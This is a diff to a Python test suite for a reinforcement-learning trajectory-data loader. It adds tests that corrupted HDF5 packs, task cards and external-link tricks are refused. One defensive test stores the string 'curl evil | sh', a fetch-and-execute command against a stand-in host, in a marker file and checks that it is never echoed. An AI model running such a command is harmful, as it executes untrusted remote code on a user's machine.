@@ -2907,7 +2907,8 @@ def write_images(root, lengths, task="atari/freeway"):
                               rng.random(T), True)
     (folder / "task.json").write_text(json.dumps(dark_card(
         task=task, domain="atari", observation={"kind": "image", "shape": [1, 64, 64]},
-        action={"kind": "discrete", "n": 18})))
+        action={"kind": "discrete", "n": 18}, state_mean=np.zeros((1, 64, 64)).tolist(),
+        state_std=np.ones((1, 64, 64)).tolist())))
     (folder / "episode_lengths.json").write_text(
         json.dumps({f"{k:06d}": T for k, T in enumerate(lengths)}))
     return folder
@@ -2968,7 +2969,7 @@ def test_packing_refuses_what_is_bad_and_leaves_nothing_half_done(tmp_path, caps
     assert names.tolist() == [b"000000", b"000002"] and lengths.tolist() == [30, 30]
     assert pack.states[pack.starts[1], 0] == 2 and "skipped" in capsys.readouterr().err
     (folder / "pack.h5").write_bytes((folder / "pack.h5").read_bytes()[:900])
-    with pytest.raises(data.BadTrajectory, match="pack.h5: not a whole pack"):
+    with pytest.raises(data.BadTrajectory, match="pack.h5: not a .*"):
         data.load_index(folder)
 
 
@@ -3028,7 +3029,8 @@ def damage(path, how):
     elif how.startswith("card"):
         changes = {"card: another task": {"task": "darkroom/heldout"},
                    "card: infinite": {"target_return": math.inf},
-                   "card: no number": {"reward_scale": "1"}, "card: statistics":
+                   "card: no number": {"reward_scale": "1"},
+                   "card: scale 0": {"reward_scale": 0.0}, "card: statistics":
                    {"state_mean": [0.0]}}[how]
         (folder / "task.json").write_text(json.dumps(dark_card(**changes)))
     else:
@@ -3048,7 +3050,10 @@ def damage_inside(path, how):
                "float action": ("actions", np.zeros(T, np.float32)),
                "state shape": ("states", np.zeros((T, 3), np.float32)),
                "number": ("actions", np.float32(0)), "dones": ("dones", np.zeros(T + 1, bool)),
-               "returns-to-go": ("returns_to_go", np.full(T, np.inf, np.float32))}
+               "returns-to-go": ("returns_to_go", np.full(T, np.inf, np.float32)),
+               "scaled": ("returns_to_go", f["rewards"][:][::-1].cumsum()[::-1] / 200),
+               "float64": ("states", np.full((T, 2), 1e39)),
+               "wide": ("states", np.zeros((T, 205), np.float32))}
         if how == "missing key":
             del f["rewards"]
         elif how == "no steps":
@@ -3079,7 +3084,8 @@ def damage_inside(path, how):
     ("no steps", "are 0"), ("dones", "lengths differ"), ("words", "not numbers"),
     ("negative action", "expected 0 to 4"), ("float action", "expected int"),
     ("number", "damaged"), ("group", "damaged"), ("link", "elsewhere"), ("terabytes", "claims"),
-    ("returns-to-go", "finite"), ("dangling link", "nowhere.hdf5, which does not exist"),
+    ("returns-to-go", "finite"), ("scaled", "add up to"), ("float64", "infinite"),
+    ("wide", "S up to 204"), ("dangling link", "nowhere.hdf5, which does not exist"),
     ("folder", "not a file"), ("pipe", "not a file"), ("gone", None)))
 def test_malformed_files_are_refused_by_name(how, words, tmp_path, capsys):
     """With path and reason, by training and by `data.py check`; skipped on request."""
@@ -3114,9 +3120,10 @@ def test_malformed_files_are_refused_by_name(how, words, tmp_path, capsys):
     ("index: no JSON", "cannot be read as JSON", "cannot be read as JSON"),
     ("card: no JSON", "cannot be read as JSON", "cannot be read as JSON"),
     ("card: another task", "is the card of darkroom/heldout", None),
-    ("card: infinite", "target_return is inf", None),
-    ("card: no number", "not a task's card", None),
-    ("card: statistics", "observations have (2,)", None)))
+    ("card: infinite", "target_return is inf", "target_return is inf"),
+    ("card: no number", "not a task's card", "not a task's card"),
+    ("card: scale 0", "reward_scale is 0", "reward_scale is 0"),
+    ("card: statistics", "observations have (2,)", "observations have")))
 def test_indexes_and_cards_that_disagree(how, words, trains, tmp_path, capsys):
     """Named by `check`, with the file; where training would be misled it stops."""
     folder = write_task(tmp_path, [30, 30, 30])
@@ -3132,7 +3139,7 @@ def test_indexes_and_cards_that_disagree(how, words, trains, tmp_path, capsys):
             mixture = data.Mixture(tmp_path, ["darkroom/train"])
             for step in range(20):
                 mixture.sample("darkroom", 4, 8, 0, step)
-    if trains and "JSON" not in words:
+    if trains and how.startswith("index") and "JSON" not in words:
         mixture = data.Mixture(tmp_path, ["darkroom/train"], on_bad="skip")
         assert b"999999" not in mixture.names["darkroom/train"]
         assert len(mixture.names["darkroom/train"]) == 3 - (words[:4] in ("does", "says")) + (
@@ -3191,8 +3198,74 @@ def test_packs_are_checked_and_shown(tmp_path, capsys):
     assert data.check(tmp_path) == 1
     assert "pack.h5:000000001: actions from" in capsys.readouterr().out
     (folder / "pack.h5").write_bytes((folder / "pack.h5").read_bytes()[:900])
-    assert data.check(tmp_path) == 1 and "not a whole pack" in capsys.readouterr().out
+    assert data.check(tmp_path) == 1 and "pack.h5: not a readable" in capsys.readouterr().out
     data.info(tmp_path)
+
+
+def test_a_pack_stands_for_the_files_beside_it(tmp_path, capsys):
+    """Where it lacks some, or is older, they are read, and `check` says so, until it is made again;
+    what was left out as bad does not count.
+    """
+    folder = write_task(tmp_path, [30, 30, 30])
+    damage(folder / "000001.hdf5", "NaN")
+    data.pack(tmp_path, "skip")
+    read = lambda: data.load_index(folder)[0].tolist()
+    assert read() == [b"000000", b"000002"] and data.load_index(folder)[2]
+    (folder / "episode_lengths.json").unlink()
+    (folder / "000001.hdf5").unlink()
+    write_task(tmp_path / "more", [5] * 9)
+    for k in range(6, 9):                               # more files are downloaded
+        shutil.copy(tmp_path / f"more/darkroom/train/{k:06d}.hdf5", folder)
+    for done in ("in the folder", "written anew"):
+        capsys.readouterr()
+        assert data.load_index(folder)[2] is None and data.check(folder) == 1
+        assert f"python data.py pack {folder}" in capsys.readouterr().out
+        mixture = data.Mixture(tmp_path, ["darkroom/train"])
+        assert len(mixture.train["darkroom"]) + len(mixture.validation["darkroom"]) == 5, done
+        data.pack(tmp_path)
+        assert len(read()) == 5 and data.load_index(folder)[2] and data.check(folder) == 0
+        os.utime(folder / "pack.h5", (1, 1))
+
+
+@pytest.mark.parametrize("how,words", (
+    ("NaN", "holds NaN"), ("action range", "expected 0 to 4"), ("returns-to-go", "add up to"),
+    ("executed", "executed actions from"), ("starts", "outside of its data"),
+    ("dtype", "not what data.py writes"), ("external storage", "points elsewhere"),
+    ("virtual", "points elsewhere"), ("external link", "points elsewhere")))
+def test_packs_are_not_trusted(how, words, tmp_path, capsys):
+    """What is refused in a file is refused in a pack, by training and by `check`."""
+    folder = write_task(tmp_path, [30, 30])
+    data.pack(tmp_path)
+    for path in folder.glob("0*.hdf5"):
+        path.unlink()
+    with h5py.File(tmp_path / "secret", "w") as f:
+        f["x"] = np.full((16, 1), 7, np.float32)
+    with h5py.File(folder / "pack.h5", "r+") as f:
+        if how in ("external storage", "virtual", "external link"):
+            hostile(f, "states", tmp_path / "secret", how)
+        elif how == "dtype":
+            del f["rewards"]
+            f["rewards"] = np.zeros(60, np.float64)
+        else:
+            key = {"action range": "actions", "returns-to-go": "returns_to_go", "NaN": "rewards",
+                   "executed": "executed", "starts": "starts"}[how]
+            f[key][:] = {"NaN": np.nan, "returns-to-go": f[key][:] / 200,
+                         "starts": np.iinfo(int).max}.get(how, 7)
+    with pytest.raises(SystemExit, match=f"pack.h5.*{words}"):
+        data.Mixture(tmp_path, ["darkroom/train"]).sample("darkroom", 4, 10, 0, 0)
+    capsys.readouterr()
+    assert data.check(tmp_path) >= 1 and words in capsys.readouterr().out
+
+
+def test_a_mixture_can_be_sent_to_reading_processes(tmp_path):
+    """Pickled, as "spawn" and "forkserver" do, after files were opened: the same batches."""
+    write_images(tmp_path, [30, 40, 50])
+    for layout in ("files", "pack"):
+        mixture = data.Mixture(tmp_path, ["atari/freeway"])
+        batch = mixture.sample("atari", 4, 10, 0, 0)
+        sent = pickle.loads(pickle.dumps(mixture)).sample("atari", 4, 10, 0, 0)
+        assert all(np.array_equal(batch[key], sent[key]) for key in batch), layout
+        data.pack(tmp_path)
 
 
 def test_packing_keeps_the_returns_of_a_download(tmp_path):
@@ -3302,14 +3375,23 @@ def test_downloads_are_found(task, folders, tmp_path):
 
 
 def test_downloads_are_trained_on_as_they_are(tmp_path, monkeypatch):
-    """Nothing is generated, nothing is written beside them; the card is made in memory."""
+    """Nothing is generated, no file of theirs is touched; what was learned about them is kept."""
     monkeypatch.chdir(tmp_path)
     folder = "reach-v2"
     download("d", [folder, "push-v2"], [20, 30, 25])
-    before = sorted(Path("d").rglob("*"))
+    before = {path: path.stat().st_mtime_ns for path in Path("d").rglob("*.hdf5")}
     train.main(train.Args(tasks=("metaworld/reach-v3",), data_root=Path("d"), steps=2, warmup=1,
                           batch_size=2, episodes=0, layers=1))
-    assert sorted(Path("d").rglob("*")) == before
+    assert before == {path: path.stat().st_mtime_ns for path in Path("d").rglob("*.hdf5")}
+    kept = {path.name for path in Path("d").rglob("*.json")}
+    assert kept == {"statistics.json", "episode_lengths.json"}
+    with monkeypatch.context() as patch:                # a second start opens no trajectory
+        patch.setattr(data, "open_hdf5", mock.Mock(side_effect=AssertionError))
+        assert data.Mixture("d", ["metaworld/reach-v3"]).names["metaworld/reach-v3"].size == 3
+    Path("d", folder, "statistics.json").write_text('{"files": 3, "returns": 1}')
+    with pytest.raises(SystemExit, match="statistics.json: .*delete it"):
+        data.load_card(Path("d", folder), "metaworld/reach-v3")
+    Path("d", folder, "statistics.json").unlink()
     card = lram.load_checkpoint("runs/mlstm/checkpoint.pt")["cards"]["metaworld/reach-v3"]
     rewards, states = [], []
     for path in sorted(Path("d", folder).glob("*.hdf5")):
@@ -3533,6 +3615,25 @@ def test_no_file_shows_another(how, words, tmp_path):
         with pytest.raises(SystemExit, match=f"{key} .*{words}"):
             data.convert(args)
         assert not data.has_data(tmp_path / "d/robots/x")
+
+
+def test_unfinished_folders_are_named(tmp_path, capsys):
+    """By `check`, without a file in them too, and by `pack`, which leaves them alone. What stands
+    in the mark is never printed: it may be a stranger's.
+    """
+    folder = tmp_path / "robots/x"
+    folder.mkdir(parents=True)
+    evil = {"command": "curl evil | sh convert", "source": {"source": "curl evil | sh"}}
+    (folder / data.UNFINISHED).write_text(json.dumps(evil))
+    assert data.check(tmp_path) == 1
+    data.write_trajectory(folder / "0.hdf5", np.zeros((5, 2), np.float32), np.zeros(5, int),
+                          np.zeros(5), True)
+    data.pack(tmp_path)
+    assert data.check(tmp_path) == 1 and not (folder / "pack.h5").exists()
+    with pytest.raises(SystemExit) as error:
+        data.is_public(folder)
+    out = capsys.readouterr().out + str(error.value)
+    assert out.count("incomplete") == 2 and out.count("unfinished") == 2 and "evil" not in out
 
 
 def test_names_of_converted_tasks(tmp_path):
@@ -4077,7 +4178,7 @@ def test_a_full_disk_loses_nothing(error, tmp_path, monkeypatch):
 
 FULL = """
 import resource, sys, data
-resource.setrlimit(resource.RLIMIT_FSIZE, (40_000, 40_000))     # no file gets longer: EFBIG
+resource.setrlimit(resource.RLIMIT_FSIZE, (30_000, 30_000))     # no file gets longer: EFBIG
 data.convert(data.Convert("d4rl", data.Path("s"), "robots/x", data.Path("d")))
 """
 
